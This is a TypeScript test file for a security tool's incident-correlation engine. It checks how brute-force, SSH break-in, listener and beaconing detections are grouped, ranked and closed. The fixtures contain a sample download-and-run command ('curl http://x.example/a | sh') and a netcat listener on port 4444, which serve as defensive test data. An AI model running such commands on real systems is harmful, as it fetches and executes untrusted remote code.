import type { Incident } from '@suite/event';
import { describe, expect, it } from 'vitest';
import { createIncidents, DEFAULT_INCIDENT_SETTINGS } from '../src/index.ts';
import { accountAttack, bruteForce, detection, HOUR, login, run, SECOND } from './detections.ts';
import { newest } from './log.ts';

const listener = (at: number, host = 'node2') =>
  detection({
    at,
    rule: 'new-listener',
    title: 'New listener',
    level: 'medium',
    techniques: ['T1571'],
    entities: { 'host.name': host, 'server.port': '4444', 'process.name': 'nc' },
  });

const breakIn = (at: number, address: string, user: string) =>
  login(at, address, user, {
    rule: 'ssh-success-after-failures',
    title: 'SSH login after many failures',
    level: 'critical',
    techniques: ['T1110', 'T1078'],
  });

describe('what belongs together', () => {
  it('are detections of one address, on whatever hosts', () => {
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      bruteForce(60, '203.0.113.9', { entities: { 'host.name': 'node3' } }),
    ]);
    expect(incidents).toHaveLength(1);
    expect(incidents[0]!.entities['host.name']).toEqual(['node2', 'node3']);
  });

  it('are not strangers who attack the same host', () => {
    const { incidents } = run([bruteForce(0, '203.0.113.9'), bruteForce(10, '198.51.100.7'), listener(20)]);
    expect(incidents).toHaveLength(3);
  });

  it('are not strangers behind one proxy, nor the node itself', () => {
    const settings = { commonAddresses: ['10.0.0.0/24'] };
    const scan = (at: number, address: string) => detection({ at, entities: { 'source.address': address } });
    expect(run([scan(0, '10.0.0.2'), scan(10, '10.0.0.2')], settings).incidents).toHaveLength(2);
    expect(run([scan(0, '127.0.0.1'), scan(10, '127.0.0.1')]).incidents).toHaveLength(2);
    expect(run([scan(0, '10.0.1.2'), scan(10, '10.0.1.2')], settings).incidents).toHaveLength(1);
  });

  it('is what an account does after a login from an address', () => {
    const command = detection({
      at: 120,
      rule: 'download-and-run',
      title: 'Download and run',
      level: 'high',
      techniques: ['T1059.004'],
      entities: {
        'user.name': 'pi',
        'host.name': 'node2',
        'process.command_line': 'curl http://x.example/a | sh',
      },
    });
    const elsewhere = {
      ...command,
      id: 'e'.repeat(20),
      entities: { ...command.entities, 'host.name': 'node7' },
    };
    const { incidents } = run([login(0, '203.0.113.9', 'pi'), command, elsewhere]);
    expect(incidents).toHaveLength(2);
    expect(incidents[0]!.summary).toBe(
      '203.0.113.9 logged in as pi on node2 at 03:00, ran `curl http://x.example/a | sh`.',
    );
  });

  it('is not every login of one person', () => {
    const { incidents } = run([login(0, '203.0.113.9', 'anna'), login(60, '198.51.100.7', 'anna')]);
    expect(incidents).toHaveLength(2);
  });

  it('is a further address with an account that was broken into, but not with root', () => {
    const stolen = run([breakIn(0, '203.0.113.9', 'pi'), login(60, '198.51.100.7', 'pi')]);
    expect(stolen.incidents).toHaveLength(1);
    const root = run([breakIn(0, '203.0.113.9', 'root'), login(60, '198.51.100.7', 'root')]);
    expect(root.incidents).toHaveLength(2);
  });

  it('is what happens on the host within minutes after a break-in, and not later or before or elsewhere', () => {
    const { incidents } = run([
      listener(-60),
      breakIn(0, '203.0.113.9', 'pi'),
      listener(300),
      listener(310, 'node3'),
      listener(300 + 901),
    ]);
    expect(incidents.map((i) => i.detectionCount)).toEqual([1, 2, 1, 1]);
    expect(incidents[1]!.summary).toContain('a new listener on :4444 appeared');
    expect(incidents[1]!.level).toBe('critical');
  });

  it('is not what happens on the host after a mere login from a new address', () => {
    expect(run([login(0, '203.0.113.9', 'anna'), listener(60)]).incidents).toHaveLength(2);
  });

  it('is what one container does, but not all visitors of a proxy in a container', () => {
    const inside = { 'host.name': 'node2', 'container.id': 'abc' };
    const breakOut = (at: number) => detection({ at, techniques: ['T1611'], entities: inside });
    expect(run([breakOut(0), breakOut(60)]).incidents).toHaveLength(1);
    const visitor = (at: number, address: string) =>
      detection({ at, techniques: ['T1190'], entities: { ...inside, 'source.address': address } });
    expect(run([visitor(0, '203.0.113.9'), visitor(5, '198.51.100.7')]).incidents).toHaveLength(2);
  });

  it('is where a node connects to within minutes after a break-in, and what strangers do then is not', () => {
    const entities = {
      'source.address': '192.168.1.20',
      'destination.address': '192.0.2.77',
      'host.name': 'node2',
    };
    const beacon = detection({ at: 60, title: 'Beaconing', techniques: ['T1071'], entities });
    const { incidents } = run([breakIn(0, '203.0.113.9', 'pi'), beacon, bruteForce(70, '198.51.100.7')]);
    expect(incidents.map(({ detectionCount }) => detectionCount)).toEqual([2, 1]);
    expect(incidents[0]!.summary).toContain('beaconing (192.0.2.77)');
  });

  it('is where an attacked node of ours connects to', () => {
    const beacon = detection({
      at: 60,
      title: 'Beaconing',
      techniques: ['T1071'],
      entities: {
        'source.address': '192.168.1.20',
        'destination.address': '203.0.113.9',
        'host.name': 'node2',
      },
    });
    expect(run([bruteForce(0, '203.0.113.9'), beacon]).incidents).toHaveLength(1);
  });
});

describe('a wave of many addresses on one account', () => {
  it('is one incident that lists them', () => {
    const addresses = Array.from({ length: 1_000 }, (_, i) => `203.0.${i >> 8}.${i & 255}`);
    const { incidents } = run([
      accountAttack(0, 'root'),
      ...addresses.map((address, i) => bruteForce(i + 1, address, { entities: { 'user.name': 'root' } })),
    ]);
    expect(incidents).toHaveLength(1);
    const [wave] = incidents;
    expect(wave!.entities['source.address']).toHaveLength(20);
    expect(wave!.title).toBe('Distributed brute force from more than 200 addresses on node2');
    expect(wave!.summary).toMatch(
      /^More than 200 addresses \(203\.0\.0\.0, .*, …\) tried 5000 passwords for root/,
    );
    expect(wave!.success).toBe(false);
    expect(wave!.detections).toHaveLength(100);
    expect(wave!.detectionCount).toBe(1_001);
    expect(wave!.timeline).toHaveLength(50);
  });

  it('takes along the attack of a single address that began before', () => {
    const { versions, incidents } = run([
      bruteForce(0, '203.0.113.9', { entities: { 'user.name': 'admin' } }),
      accountAttack(60, 'admin'),
      bruteForce(90, '198.51.100.7', { entities: { 'user.name': 'admin' } }),
    ]);
    expect(incidents).toHaveLength(1);
    expect(versions.at(-1)!.detectionCount).toBe(3);
  });

  it('lets go of the one that gets in: that is a story of its own', () => {
    const { incidents } = run(
      [
        accountAttack(0, 'pi'),
        bruteForce(10, '203.0.113.9', {
          entities: { 'user.name': 'pi' },
          evidenceCount: 40,
          firstUs: undefined!,
        }),
        bruteForce(20, '198.51.100.7', { entities: { 'user.name': 'pi' } }),
        breakIn(60, '203.0.113.9', 'pi'),
        bruteForce(70, '192.0.2.1', { entities: { 'user.name': 'pi' } }),
      ].map((d) => ({ ...d, firstUs: d.firstUs ?? d.timeUs - 9 * SECOND })),
    );
    expect(incidents).toHaveLength(2);
    const [wave, own] = incidents;
    expect(wave).toMatchObject({ success: false, level: 'medium' });
    expect(own).toMatchObject({ success: true, level: 'critical' });
    expect(own!.entities['source.address']).toEqual(['203.0.113.9']);
    expect(own!.summary).toMatch(
      /^203\.0\.113\.9 tried 40 passwords on node2 .*, then logged in as pi at 03:01\.$/,
    );
    expect(own!.timeline.map(({ rule }) => rule)).toEqual([
      'ssh-brute-force-address',
      'ssh-success-after-failures',
    ]);
  });

  it('is told anew after a day: the internet never stops', () => {
    const hourly = Array.from({ length: 30 }, (_, i) => accountAttack(i * 3_500, 'root'));
    expect(run(hourly).incidents).toHaveLength(2);
  });
});

describe('two incidents that turn out to be one', () => {
  it('become the older one; the other is closed and points to it', () => {
    const { incidents, versions } = run([
      bruteForce(0, '203.0.113.9'),
      detection({ at: 30, entities: { 'host.name': 'node2', 'session.id': '42' }, level: 'high' }),
      detection({
        at: 60,
        entities: { 'source.address': '203.0.113.9', 'host.name': 'node2', 'session.id': '42' },
      }),
    ]);
    expect(incidents).toHaveLength(2);
    const [older, other] = incidents;
    expect(other).toMatchObject({ closed: true, mergedInto: older!.id, version: 2 });
    expect(other!.summary).toBe(`Part of incident ${older!.id}: the same story.`);
    expect(older).toMatchObject({ detectionCount: 3, level: 'high', closed: false });
    expect(versions.map(({ id, version }) => [id === older!.id, version])).toEqual([
      [true, 1],
      [false, 1],
      [false, 2],
      [true, 2],
    ]);
  });

  it('are found by the keys of both from then on', () => {
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      detection({ at: 30, entities: { 'host.name': 'node2', 'session.id': '42' } }),
      detection({
        at: 60,
        entities: { 'source.address': '203.0.113.9', 'host.name': 'node2', 'session.id': '42' },
      }),
      detection({ at: 90, entities: { 'host.name': 'node2', 'session.id': '42' } }),
      bruteForce(120, '203.0.113.9'),
    ]);
    expect(incidents[0]!.detectionCount).toBe(5);
  });
});

describe('an incident is over', () => {
  it('after an hour of quiet, and what comes then is another one', () => {
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      bruteForce(3_000, '203.0.113.9'),
      bruteForce(6_700, '203.0.113.9'),
    ]);
    expect(incidents.map(({ closed, detectionCount }) => [closed, detectionCount])).toEqual([
      [true, 2],
      [false, 1],
    ]);
    expect(new Set(incidents.map(({ id }) => id)).size).toBe(2);
  });

  it('later when somebody got in', () => {
    const { incidents } = run([login(0, '203.0.113.9', 'pi'), bruteForce(5 * 3_600, '203.0.113.9')]);
    expect(incidents).toHaveLength(1);
  });

  it('unless a line of its time comes late', () => {
    const { incidents, versions } = run(
      [
        bruteForce(0, '203.0.113.9'),
        bruteForce(2 * 3_600, '198.51.100.7'),
        bruteForce(600, '203.0.113.9', { timeUs: undefined! }),
      ].map((d) => ({ ...d, timeUs: d.timeUs ?? d.firstUs })),
    );
    expect(incidents[0]).toMatchObject({ closed: false, detectionCount: 2 });
    expect(versions.filter(({ id }) => id === incidents[0]!.id).map(({ closed }) => closed)).toEqual([
      false,
      true,
      false,
    ]);
  });

  it('also for the same detection that goes on: it is told again under another id', () => {
    const first = bruteForce(0, '203.0.113.9');
    const again = { ...first, version: 2, timeUs: first.timeUs + 2 * HOUR };
    const { incidents } = run([first, again]);
    expect(incidents).toHaveLength(2);
  });
});

describe('the level', () => {
  const deed = (at: number, technique: string, level: 'low' | 'medium' | 'high' = 'medium') =>
    detection({ at, level, techniques: [technique], entities: { 'user.name': 'pi', 'host.name': 'node2' } });

  it('is the highest of the detections', () => {
    expect(run([login(0, '203.0.113.9', 'pi'), deed(9, 'T1098', 'high')]).incidents[0]!.level).toBe('high');
  });

  it('is at least high for attempts and then a login', () => {
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      login(60, '203.0.113.9', 'pi', { level: 'low' }),
    ]);
    expect(incidents[0]).toMatchObject({ level: 'high', title: 'Break-in from 203.0.113.9 on node2' });
  });

  it('is critical when something is done after that', () => {
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      login(60, '203.0.113.9', 'pi'),
      deed(120, 'T1059.004'),
    ]);
    expect(incidents[0]!.level).toBe('critical');
  });

  it('rises by one for a login and two kinds of deeds, not for many of one kind or small ones', () => {
    const start = login(0, '203.0.113.9', 'pi');
    expect(run([start, deed(1, 'T1059'), deed(2, 'T1136')]).incidents[0]!.level).toBe('high');
    expect(run([start, deed(1, 'T1059'), deed(2, 'T1059')]).incidents[0]!.level).toBe('medium');
    expect(run([start, deed(1, 'T1059', 'low'), deed(2, 'T1136', 'low')]).incidents[0]!.level).toBe('medium');
  });
});

describe('what NADIR’s own clock noticed', () => {
  it('stays alone', () => {
    const incidents = createIncidents(DEFAULT_INCIDENT_SETTINGS);
    const seen: string[] = [];
    incidents.observe(breakIn(0, '203.0.113.9', 'pi'), ({ id }) => seen.push(id));
    const silent = detection({
      at: 60,
      rule: 'node-silent',
      entities: { 'host.name': 'node2' },
      evidence: [],
    });
    incidents.observe(silent, ({ id }) => seen.push(id), 'clock');
    expect(new Set(seen).size).toBe(2);
  });
});

describe('a clock that lies', () => {
  const year = 365 * 86_400;

  it('neither closes what goes on nor keeps it open for ever', () => {
    const incidents = createIncidents(DEFAULT_INCIDENT_SETTINGS);
    const versions: Incident[] = [];
    const emit = (incident: Incident) => versions.push(incident);
    const now = (at: number) => bruteForce(at, '203.0.113.9').timeUs;
    incidents.advance(now(0), emit);
    incidents.observe(bruteForce(0, '203.0.113.9'), emit);
    incidents.observe(bruteForce(year, '198.51.100.7'), emit);
    incidents.observe(bruteForce(-year, '192.0.2.1'), emit);
    incidents.observe({ ...login(0, '192.0.2.2', 'pi'), timeUs: 1e25, firstUs: -1e25 }, emit);
    incidents.observe(bruteForce(60, '203.0.113.9'), emit);
    expect(newest(versions).map(({ detectionCount, closed }) => [detectionCount, closed])).toEqual([
      [2, false],
      [1, false],
      [1, false],
      [1, false],
    ]);
    incidents.advance(now(7 * 3_600), emit);
    expect(incidents.open()).toEqual([]);
  });

  it('does not stop the journal’s own', () => {
    const incidents = createIncidents(DEFAULT_INCIDENT_SETTINGS);
    const versions: Incident[] = [];
    const emit = (incident: Incident) => versions.push(incident);
    incidents.advance(5_000_000, emit);
    incidents.observe(bruteForce(0, '203.0.113.9'), emit);
    incidents.advance(1_000_000, emit);
    expect(incidents.open()).toHaveLength(1);
    incidents.advance(5_000_000 + 2 * HOUR, emit);
    expect(versions.at(-1)).toMatchObject({ closed: true, version: 2 });
  });
});

describe('what is merely informational', () => {
  const note = (at: number, address: string) =>
    detection({ at, level: 'informational', entities: { 'source.address': address } });

  it('joins an incident and opens none', () => {
    const { incidents } = run([
      note(0, '203.0.113.9'),
      bruteForce(10, '203.0.113.9'),
      note(20, '203.0.113.9'),
    ]);
    expect(incidents.map(({ detectionCount }) => detectionCount)).toEqual([2]);
  });
});
